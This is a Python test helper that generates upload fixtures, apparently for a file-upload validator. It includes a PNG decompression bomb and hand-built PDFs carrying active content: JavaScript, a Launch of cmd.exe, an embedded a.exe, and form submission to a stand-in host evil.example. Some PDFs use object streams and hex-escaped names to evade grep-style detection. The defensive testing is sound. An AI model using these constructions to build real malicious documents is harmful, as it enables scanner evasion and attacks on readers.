"""Upload samples made on the fly with pypdf and Pillow (no binary fixtures in the repository)."""

import io
import os
import random
import re
import struct
import zipfile
import zlib

from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.generic import NameObject, StreamObject

ORIENTATION, GPS_IFD = 0x0112, 0x8825


def pdf(pages: int = 1, *, padding: int = 0) -> bytes:
    """A valid A4 PDF; padding adds a stream of random bytes (an image's worth of data) to make it as big as wanted."""
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(595, 842)
    if padding:
        stream = StreamObject()
        stream.set_data(os.urandom(padding))
        writer._root_object[NameObject("/Padding")] = writer._add_object(stream)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def encrypted_pdf(user_password: str = "") -> bytes:
    """Encrypted with RC4 (pure Python in pypdf); an empty user password still opens without asking."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf(2))))
    writer.encrypt(user_password=user_password, owner_password="owner-secret", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def two_colour(size: tuple[int, int] = (400, 300), mode: str = "RGB") -> Image.Image:
    """Left half red, right half blue: after a rotation one can tell which side went where."""
    im = Image.new(mode, size, "blue")
    im.paste("red", (0, 0, size[0] // 2, size[1]))
    return im


def jpeg(size: tuple[int, int] = (400, 300), *, orientation: int | None = None, gps: bool = False,
         noise: bool = False) -> bytes:
    # Seeded noise: the same bytes every run, so a damaged-scan test decodes (or fails) the same way each time.
    noisy = random.Random(7).randbytes(size[0] * size[1] * 3) if noise else b""
    im = Image.frombytes("RGB", size, noisy) if noise else two_colour(size)
    exif = Image.Exif()
    if orientation:
        exif[ORIENTATION] = orientation
    if gps:
        exif[GPS_IFD] = {1: "N", 2: (36.0, 40.0, 12.5), 3: "E", 4: (117.0, 1.0, 3.0)}
    out = io.BytesIO()
    im.save(out, "JPEG", quality=95, exif=exif)
    return out.getvalue()


def png(image: Image.Image | None = None, **params) -> bytes:
    out = io.BytesIO()
    (image or two_colour()).save(out, "PNG", **params)
    return out.getvalue()


def animated_gif() -> bytes:
    frames = [Image.new("P", (60, 40), colour) for colour in (1, 2)]
    out = io.BytesIO()
    frames[0].save(out, "GIF", save_all=True, append_images=frames[1:], duration=100, loop=0)
    return out.getvalue()


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def bomb_png(width: int, height: int) -> bytes:
    """A few hundred bytes claiming width × height grey pixels: only the header is ever needed to refuse it."""
    rows = zlib.compress(b"\x00" * (width + 1) * 4, 9)
    return (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
            + _png_chunk(b"IDAT", rows) + _png_chunk(b"IEND", b""))


def exe() -> bytes:
    header = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    return header + b"\x00" * 48 + b"This program cannot be run in DOS mode."


def html() -> bytes:
    return "<!DOCTYPE html><html><body><script>alert('x')</script>%PDF-1.7</body></html>".encode()


def zip_archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("word/document.xml", "<w:document/>")
    return out.getvalue()


CATALOG, PAGES, PAGE = (b"<< /Type /Catalog /Pages 2 0 R %s >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] %s >>")


def raw_pdf(catalog: bytes = b"", page: bytes = b"", *more: bytes, packed: bool = False, zipped: bool = True,
            stream_dict: bytes = b"") -> bytes:
    """A one-page PDF written by hand, so that any object can hold anything.

    catalog and page are added to those dictionaries; `more` are objects 4, 5, …. With packed, every object
    but the page tree goes into an object stream (FlateDecode when zipped, with stream_dict added to its
    dictionary), found through a cross-reference stream: the way modern writers hide objects from a grep.
    """
    bodies = [CATALOG % catalog, PAGES, PAGE % page, *more]
    loose = [2, 3] if packed else list(range(1, len(bodies) + 1))
    inside = [n for n in range(1, len(bodies) + 1) if n not in loose]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}
    for number in loose:
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, bodies[number - 1])
    stream_number = len(bodies) + 1
    if inside:
        header, content = b"", b""
        for number in inside:
            header += b"%d %d " % (number, len(content))
            content += bodies[number - 1] + b"\n"
        data = header + content
        if zipped:
            data = zlib.compress(data)
        offsets[stream_number] = len(out)
        out += (b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Length %d %s %s >>\nstream\n%s\nendstream\nendobj\n"
                % (stream_number, len(inside), len(header), len(data), b"/Filter /FlateDecode" if zipped else b"",
                   stream_dict, data))
    xref_number = stream_number + 1
    offsets[xref_number] = len(out)
    rows = b"\x00" + b"\x00" * 4 + b"\xff\xff"
    for number in range(1, xref_number + 1):
        if number in inside:
            rows += b"\x02" + struct.pack(">IH", stream_number, inside.index(number))
        elif number in offsets:
            rows += b"\x01" + struct.pack(">IH", offsets[number], 0)
        else:
            rows += b"\x00" + struct.pack(">IH", 0, 0)
    out += (b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n%s\nendstream\nendobj\n"
            % (xref_number, xref_number + 1, len(rows), rows))
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[xref_number]
    return bytes(out)


def libreoffice_pdf(workdir) -> bytes:
    """A Word document with Chinese text, a table and a link, exported by LibreOffice (writes an /OpenAction
    destination and an outline); needs soffice on the PATH."""
    import subprocess

    import docx

    document = docx.Document()
    document.add_heading("专业技术职务任职资格评审表", 1)
    document.add_paragraph("申报人：王小明　单位：济南市群众艺术馆 https://example.org/")
    table = document.add_table(rows=2, cols=2)
    table.cell(0, 0).text, table.cell(1, 1).text = "学历", "研究生"
    source = workdir / "form.docx"
    document.save(source)
    subprocess.run(["soffice", f"-env:UserInstallation=file://{workdir}/profile", "--headless", "--convert-to", "pdf",
                    "--outdir", str(workdir), str(source)], check=True, capture_output=True, timeout=180)
    return (workdir / "form.pdf").read_bytes()


def annotation(action: bytes) -> dict:
    """A link on the page whose click runs action."""
    return {"page": b"/Annots [4 0 R]",
            "more": [b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << %s >> >>" % action]}


# Active content, by the name the check reports → how a file carries it: entries added to the catalog and
# the page, and objects 4, 5, … of raw_pdf.
ACTIVE_PDFS = {
    "javascript-name-tree": ("JavaScript", {"catalog": b"/Names << /JavaScript 4 0 R >>",
                                            "more": [b"<< /Names [(a) 5 0 R] >>", b"<< /S /JavaScript /JS (app.alert(1)) >>"]}),
    "open-action-js": ("JavaScript", {"catalog": b"/OpenAction 4 0 R",
                                      "more": [b"<< /S /JavaScript /JS (this.exportDataObject()) >>"]}),
    "open-action-uri": ("OpenAction", {"catalog": b"/OpenAction << /S /URI /URI (http://evil.example/) >>"}),
    "page-aa": ("AA", {"page": b"/AA << /O << /S /Named /N /NextPage >> >>"}),
    "launch": ("Launch", annotation(b"/S /Launch /F (cmd.exe) /Win << /F (cmd.exe) >>")),
    "embedded-files": ("EmbeddedFiles", {"catalog": b"/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>",
                                         "more": [b"<< /Type /Filespec /F (a.exe) >>"]}),
    "xfa": ("XFA", {"catalog": b"/AcroForm << /Fields [] /XFA [(template) 4 0 R] >>", "more": [b"<< >>"]}),
    "rich-media": ("RichMedia", {"page": b"/Annots [4 0 R]",
                                 "more": [b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>"]}),
    "submit-form": ("SubmitForm", annotation(b"/S /SubmitForm /F (http://evil.example/)")),
    "import-data": ("ImportData", annotation(b"/S /ImportData /F (data.fdf)")),
    "goto-remote": ("GoToR", annotation(b"/S /GoToR /F (other.pdf) /D [0 /Fit]")),
    "goto-embedded": ("GoToE", annotation(b"/S /GoToE /D [0 /Fit] /T << /R /C /N (a) >>")),
}


def obfuscated(body: bytes) -> bytes:
    """Every name with its second letter as a #xx escape, which readers decode: /J#61vaScript."""
    return re.sub(rb"/([A-Za-z])([A-Za-z]\w*)", lambda m: b"/%s#%02x%s" % (m[1], m[2][0], m[2][1:]), body)


def active_pdf(parts: dict, *, packed: bool, hide: bool) -> bytes:
    """One of ACTIVE_PDFS, loose or in an object stream, its names plain or hex-escaped."""
    hidden = obfuscated if hide else (lambda body: body)
    return raw_pdf(hidden(parts.get("catalog", b"")), hidden(parts.get("page", b"")),
                   *map(hidden, parts.get("more", [])), packed=packed)
